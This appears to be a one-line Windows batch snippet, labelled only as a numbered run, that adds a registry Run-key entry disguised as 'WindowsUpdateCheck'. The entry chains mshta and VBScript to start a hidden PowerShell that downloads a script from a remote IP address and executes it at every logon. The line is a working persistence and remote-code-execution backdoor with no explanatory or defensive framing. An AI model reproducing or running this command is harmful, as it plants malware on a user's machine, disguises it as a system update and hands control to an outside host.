REM run 3759 v3
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v WindowsUpdateCheck /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://203.0.113.200/inv.ps1|iex\"\", 0:close\")" /f
